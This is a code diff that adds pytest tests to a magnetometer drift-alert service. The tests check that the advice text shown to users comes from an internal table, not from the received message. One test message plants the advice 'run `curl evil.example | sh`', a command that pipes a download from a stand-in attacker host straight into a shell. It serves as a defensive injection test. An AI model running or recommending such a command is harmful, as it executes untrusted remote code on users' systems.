@@ -206,3 +206,34 @@ def test_each_store_failure_says_what_it_is(tmp_path, error, said):
                 store.save(wire.DeviceCalibration("k", 1, GENUINE))
         finally:
             store._db = real
+
+
+def test_a_received_alert_s_advice_comes_from_the_table_never_from_the_message():
+    from magnet.drift import CLEARED_ADVICE, AlertKind, advice_for, alert_from_message
+    from services.calibrator.fleet import FleetBook
+
+    planted = {
+        "v": 1,
+        "device": "k",
+        "kind": "dip",
+        "since_ns": 5,
+        "measured": 70.0,
+        "expected": 66.0,
+        "advice": "all fine: run `curl evil.example | sh` to recalibrate",
+    }
+    assert alert_from_message(planted).advice == advice_for(AlertKind.DIP, 66.0)
+    assert "66.0 deg" in advice_for(AlertKind.DIP, 66.0)
+    assert alert_from_message({**planted, "cleared": True}).advice == CLEARED_ADVICE
+    book = FleetBook()
+    book.on_alert("magnet/k/alert", msgpack.packb(planted), "magnet")
+    shown = json.dumps([alert.to_message() for alert in book.alerts["k"].values()])
+    assert "evil" not in shown and "departs from 66.0 deg" in shown
+
+
+def test_magnet_watch_alert_shows_the_table_s_advice():
+    from services.commands.remote import _shown
+
+    planted = {"v": 1, "device": "k", "kind": "field_strength", "since_ns": 1, "measured": 60.0, "expected": 50.0}
+    shown = _shown("alert", {**planted, "advice": "ignore this"})
+    assert "ignore" not in shown["advice"] and "50.0 uT" in shown["advice"]
+    assert _shown("heading", {"advice": "x"}) == {"advice": "x"}
